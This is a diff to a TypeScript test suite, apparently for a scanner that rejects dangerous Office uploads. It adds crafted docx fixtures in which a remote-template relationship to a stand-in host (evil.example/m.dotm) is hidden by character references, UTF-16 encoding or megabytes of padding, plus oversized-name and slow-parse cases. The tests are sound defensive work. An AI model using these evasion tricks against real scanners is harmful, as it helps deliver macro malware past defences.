@@ -1,3 +1,4 @@
+import { randomBytes } from "node:crypto";
 import { mkdtempSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
@@ -26,6 +27,8 @@ const jpg = Buffer.from([
 ]);
 const programme = Buffer.concat([Buffer.from("MZ\u0090\u0000", "latin1"), Buffer.alloc(200)]);
 const zeros = (mo: number) => Buffer.alloc(mo * 1_000_000);
+/** Text that does not shrink like a bomb. */
+const aleas = (mo: number) => randomBytes((mo * 1_000_000) / 2).toString("hex");
 const MODELE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
 
 const ACCEPTES: [string, string, Uint8Array][] = [
@@ -134,6 +137,34 @@ const REFUSES: [string, string, Uint8Array, string][] = [
     }),
     "macros",
   ],
+  [
+    "le même, sous un préfixe et en références de caractères",
+    "a.docx",
+    docx({
+      nom: "word/_rels/settings.xml.rels",
+      contenu: `<r:Relationship Target="&#104;ttp&#x73;://evil.example/m.dotm" Type="${MODELE.replace("T", "&#84;")}"/>`,
+    }),
+    "macros",
+  ],
+  [
+    "le même, en UTF-16",
+    "a.docx",
+    docx({
+      nom: "word/_rels/settings.xml.rels",
+      contenu: Buffer.from(`\ufeff<Relationship Target="https://evil.example/m.dotm" Type="${MODELE}"/>`, "utf16le"),
+    }),
+    "abîmé",
+  ],
+  [
+    "le même, au bout de relations démesurées",
+    "a.docx",
+    docx({
+      nom: "word/_rels/settings.xml.rels",
+      contenu: `${aleas(12)}<Relationship Target="https://evil.example/m.dotm" Type="${MODELE}"/>`,
+    }),
+    "démesuré",
+  ],
+  ["un nom de partie démesuré", "a.docx", docx({ nom: "vbaProject".repeat(6_000), contenu: "x" }), "abîmé"],
   [
     "un objet incorporé de n’importe quelle sorte",
     "a.docx",
@@ -285,6 +316,13 @@ describe("ce qui est refusé, en une phrase", () => {
     expect(motif).toMatch(new RegExp(`^« ${nom} » `));
     expect(motif.length).toBeLessThan(200);
   });
+});
+
+test("des relations faites pour durer sont lues aussi vite que les autres", async () => {
+  const contenu = "<Relationship ".repeat(350_000);
+  const debut = performance.now();
+  expect(await examiner("a.docx", docx({ nom: "word/_rels/a.rels", contenu }))).toBe("accepté");
+  expect(performance.now() - debut).toBeLessThan(5_000);
 });
 
 test("des parties raisonnables qui font ensemble un contenu démesuré sont arrêtées, vite et sans remplir la mémoire", async () => {
